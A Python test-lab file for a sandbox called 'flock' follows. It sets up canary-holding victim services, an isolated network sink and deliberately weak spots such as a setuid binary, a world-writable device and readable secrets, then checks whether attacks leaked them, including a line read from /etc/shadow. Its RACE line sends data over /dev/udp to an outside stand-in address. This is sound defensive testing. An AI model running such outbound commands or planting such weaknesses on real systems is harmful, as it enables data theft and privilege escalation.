"""The place of the attacks: attackers, victims with canaries, the world outside, and what can be looked at."""

import contextlib
import ctypes
import json
import os
import pathlib
import secrets
import shutil
import socket
import subprocess
import threading
import time

import harness
from inside import port_of
from harness import SHARED, agents, journal, ok, pid, run, show, start, unit, wait

HERE = pathlib.Path(__file__).resolve().parent
# Below /usr, so that it is in every sandbox at the same path; nothing secret stands in it.
PROGRAMS = pathlib.Path("/usr/local/lib/attacks")
WORK = pathlib.Path("/run/flock-attacks")
VICTIMS = {"victim": (7001, 0x5eed01), "zero-victim": (7002, 0x5eed02)}
HOST_KEY = 0x5eed00
libc = ctypes.CDLL(None, use_errno=True)

# The first thing that an agent does.
RACE = 'exec 3<>/dev/udp/192.0.2.1/1999; echo race-attack >&3; touch "$HOME/tried"'
CONFIG = """
[agents.attacker]
[agents.worker]
[agents.zero]
level = 0
[agents.zero-worker]
level = 0
""" + "".join(f"""
[agents.{name}]
level = {0 if name.startswith("zero") else 1}
mode = "service"
command = ["/bin/sh", "-c", "echo '<0>SHOUT'; exec sleep 100000"]
""" for name in ("shouter", "zero-shouter")) + """
[agents.racer]
mode = "service"
command = ["/bin/bash", "-c", "RACE; exec sleep 100000"]
""" + "".join(f"""
[agents.{name}]
level = {0 if name.startswith("zero") else 1}
mode = "service"
command = ["/usr/bin/python3", "{PROGRAMS}/victim.py"]
environment = {{ PORT = "{port}", KEY = "{key}" }}
environment-files = ["/etc/flock/{name}.secret"]
""" for name, (port, key) in VICTIMS.items())


@contextlib.contextmanager
def unmeasured():
    """flockd measures nobody: its canaries come and go where the attacks are looked for."""
    text = harness.CONFIG.read_text()
    assert "\n[verify]" not in text, text
    harness.CONFIG.write_text(text + '\n[verify]\nevery = "never"\n')
    try:
        yield
    finally:
        harness.CONFIG.write_text(text)


class Lab:
    """What the rows ask about the machine. Answers are taken after the runs of a phase, all at once."""

    def __init__(self):
        self.canaries = {name: f"CANARY-{secrets.token_hex(16)}-{name}" for name in (*VICTIMS, "host", "shout")}
        self.cache, self.local = {}, []
        # What takes the marks of `settle`, and how often there was one.
        self.listening, self.settled = [], 0

    # What is there.

    def config(self):
        return CONFIG.replace("SHOUT", self.canaries["shout"]).replace("RACE", RACE.replace('"', '\\"'))

    def build(self):
        shutil.rmtree(PROGRAMS, ignore_errors=True)
        PROGRAMS.mkdir(parents=True)
        for file in HERE.glob("*.py"):
            shutil.copy(file, PROGRAMS)
        WORK.mkdir(exist_ok=True)
        if run("id", "plain").status:
            ok("useradd", "--create-home", "--shell", "/bin/sh", "plain")
        for place, mode in ((pathlib.Path("/home/open"), 0o755), (pathlib.Path("/root"), 0o700)):
            place.mkdir(exist_ok=True)
            place.chmod(mode)
            (place / "secret").write_text(self.canaries["host"])
        for name in VICTIMS:
            file = pathlib.Path(f"/etc/flock/{name}.secret")
            file.write_text(f"CANARY={self.canaries[name]}\n")
            file.chmod(0o600)
        self.world()
        self.services()

    def describe(self):
        """What the attackers may know, in a file: the worst case, where nothing has to be guessed."""
        victims = {}
        for name, (port, key) in VICTIMS.items():
            victim = pid(name)
            maps = pathlib.Path(f"/proc/{victim}/maps").read_text().splitlines()
            address = [int(line.split("-")[0], 16) for line in maps if "SYSV" in line]
            victims[name] = {"id": name, "pid": victim, "port": port, "key": key, "address": address[0]}
        groups = {name: [int(g) for g in ok("id", "-G", user).split()] for name, user in (("attacker", "flock-attacker"), ("zero", "flock-workspace"))}
        scene = {"attacker": "attacker", "victims": victims, "groups": groups, "host_key": HOST_KEY,
                 "runtimes": {name: pid(name) for name in ("worker", "zero-worker")},
                 "services": [int(show(name, "MainPID")) for name in ("flockd", "flock-bus")]}
        (PROGRAMS / "scene.json").write_text(json.dumps(scene))
        self.secrets = [self.canaries["host"], pathlib.Path("/etc/shadow").read_text().splitlines()[0]]
        self.identities = []
        for name in ("worker", "zero-worker", *VICTIMS, "operator"):
            text = pathlib.Path(f"/var/lib/flock/identity/{name}.env").read_text()
            self.identities += [line.split("=", 1)[1].strip('"') for line in text.splitlines() if line.startswith("NATS_PASSWORD=")]
        assert len(self.identities) == 5, "the identities were not found"

    def world(self):
        """Another network namespace that is every address but this host's."""
        run("ip", "link", "del", "flocksink")
        self.log = WORK / "arrived"
        self.log.write_text("")
        ok("ip", "link", "add", "flocksink", "type", "veth", "peer", "name", "flockworld")
        # As on a host whose network systemd set up.
        pathlib.Path("/proc/sys/net/ipv4/ping_group_range").write_text("0 2147483647")
        self.sink = subprocess.Popen(["unshare", "-n", "sh", "-c", f"echo; read go; exec python3 {HERE}/sink.py {self.log}"],
                                     stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
        self.sink.stdout.readline()
        ok("ip", "link", "set", "flockworld", "netns", str(self.sink.pid))
        for line in ("link set flocksink up", "addr add 192.0.2.2/24 dev flocksink", "-6 addr add 2001:db8::2/64 dev flocksink nodad",
                     "route replace default via 192.0.2.1", "-6 route replace default via 2001:db8::1", "route replace 224.0.0.0/4 dev flocksink"):
            ok("ip", *line.split())
        self.sink.stdin.write("go\n")
        self.sink.stdin.flush()
        assert self.sink.stdout.readline() == "up\n", "the world outside did not come up"
        self.visits = []
        threading.Thread(target=lambda: [self.visits.append(line.strip()) for line in self.sink.stdout], daemon=True).start()
        # Nobody may send a person to a real name server: the sink is every one.
        pathlib.Path("/etc/resolv.conf").unlink(missing_ok=True)
        pathlib.Path("/etc/resolv.conf").write_text("nameserver 198.51.100.53\noptions timeout:1 attempts:1\n")

    def services(self):
        """Listeners on this host that are not the bus."""
        for port in (53, 8222, 9999, 9998):
            for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
                server = socket.socket(socket.AF_INET, kind)
                server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                server.bind(("127.0.0.1", port))
                if kind == socket.SOCK_STREAM:
                    server.listen(50)
                self.listening.append(("127.0.0.1", port, kind))
                threading.Thread(target=self.serve, args=(server, kind), daemon=True).start()
        # Every other address of this host: one port that takes all.
        for address in ("192.0.2.2", "127.0.0.2"):
            server = socket.socket()
            server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            server.bind((address, 14223))
            server.listen(50)
            self.listening.append((address, 14223, socket.SOCK_STREAM))
            threading.Thread(target=self.serve, args=(server, socket.SOCK_STREAM), daemon=True).start()

    def serve(self, server, kind):
        while True:
            if kind == socket.SOCK_STREAM:
                client, _ = server.accept()
                client.settimeout(2)
                try:
                    self.local.append(client.recv(200).decode(errors="replace"))
                except OSError:
                    pass
                client.close()
            else:
                self.local.append(server.recv(500).decode(errors="replace"))

    def end(self):
        self.sink.kill()
        self.sink.wait()

    # What a row needs.

    def setuid_program(self):
        ok("install", "-m", "4755", "/usr/bin/id", "/usr/local/bin/setuid-canary")

    def device(self):
        """A device that everybody may open: what a careless package leaves."""
        for major, minor in ((10, 229), (10, 200), (1, 11)):
            pathlib.Path("/dev/flock-canary").unlink(missing_ok=True)
            ok("mknod", "-m", "666", "/dev/flock-canary", "c", str(major), str(minor))
            if run("sh", "-c", "exec 3<>/dev/flock-canary", user="plain").status == 0:
                return

    def shared_memory(self):
        segment = libc.shmget(HOST_KEY, 4096, 0o1666)
        libc.shmat.restype = ctypes.c_void_p
        canary = self.canaries["host"].encode()
        ctypes.memmove(libc.shmat(segment, None, 0), canary + b"\0", len(canary) + 1)

    def queue(self):
        os.umask(0)
        libc.syscall(240, b"canary-host", 0o102, 0o666, None)
        os.umask(0o022)

    def temporary_files(self):
        for place in ("/dev/shm", "/tmp", "/var/tmp"):
            file = pathlib.Path(place) / "canary"
            file.write_text(self.canaries["host"])
            file.chmod(0o644)

    # What can be seen from outside.

    def settle(self):
        """From now on the answers are about what happened until now: a mark that was sent last has come everywhere."""
        ok("journalctl", "--sync")
        self.settled += 1
        mark = f"settled-{self.settled}-"
        for address, port, kind in self.listening:
            with socket.socket(socket.AF_INET, kind) as client:
                client.settimeout(20)
                client.connect((address, port))
                client.sendall(mark.encode())

        def outside():
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
                client.sendto(mark.encode(), ("192.0.2.1", 1998))
            return mark in self.log.read_text()
        wait("the mark outside", outside, 60)
        wait("the mark at each listener", lambda: self.local.count(mark) >= len(self.listening), 60)
        time.sleep(0.3)
        self.cache = {"arrived": self.log.read_text(), "journal": journal("-b"), "visits": " ".join(self.visits) + " "}

    def has_canary(self, said):
        return any(canary in said for canary in self.canaries.values())

    def has_secret(self, said):
        return any(secret in said for secret in self.secrets) or self.has_identity(said)

    def has_identity(self, said):
        return any(password in said for password in self.identities)

    def arrived(self, tag):
        port = f" {port_of(tag)} "
        return tag in self.cache["arrived"] or port in self.cache["arrived"] or any(tag in text for text in self.local)

    def visited(self, tag, said):
        return f"visited {port_of(tag)} " in self.cache["visits"]

    def visit(self, tag):
        self.sink.stdin.write(f"{port_of(tag)}\n")
        self.sink.stdin.flush()

    def journal_has(self, tag):
        # `forged` is the attacker's word; the unit's own lines name the tag as well.
        return f"forged {tag}" in self.cache["journal"]

    def marks(self, places, tag):
        return any(tag in path.name for place in places for path in pathlib.Path(place).glob("*"))

    def victims_changed(self, tag):
        places = [SHARED / "agents", *(SHARED / "agents" / name for name in VICTIMS)]
        attributes = [f"user.{tag}" in os.listxattr(SHARED / "agents" / name / "canary") for name in VICTIMS]
        return self.marks(places, tag) or any(attributes)

    def logs_changed(self, tag):
        texts = [path.read_text(errors="replace") for path in (SHARED / "logs").glob("*") if path.is_file()]
        return any(f"forged {tag}" in text for text in texts)

    def common_has(self, tag):
        return self.marks([SHARED / "common"], tag)

    def system_has(self, tag):
        return self.marks(["/usr/lib/systemd/system", "/usr/local/bin", "/etc/systemd/system", "/etc/cron.d", "/run/systemd/system",
                           "/var/lib/systemd/linger", "/etc"], f"{tag}.flock-attack")

    def started(self, tag, said):
        return said.startswith("GOT") or pathlib.Path(f"/tmp/{tag}").exists()

    def signals(self, tag, said):
        return said.startswith("GOT")

    def tripwire(self):
        """Everything about what no attack may change."""
        places = [SHARED / "agents", *(SHARED / "agents" / n for n in ("victim", "worker")), SHARED / "agents/attacker", SHARED / "common"]
        found = {"acl": ok("getfacl", "-p", *map(str, places))}
        script = ("find PLACE -xdev -not -type d -printf '%p %m %u %s %T@ %C@\\n' | sort; "
                  "find PLACE -xdev -type f -exec sha256sum {} + | sort")
        for place in (SHARED / "agents/victim", "/etc", "/usr/local/bin", "/usr/lib/systemd", "/root"):
            found[str(place)] = ok("sh", "-c", script.replace("PLACE", str(place)))
        for name in (*VICTIMS, "worker"):
            if name != "zero-victim":
                found[name] = " ".join(show(unit(name), "MainPID", "InvocationID", "NRestarts"))
        for name in ("flockd", "flock-bus"):
            found[name] = show(name, "InvocationID")
        return found
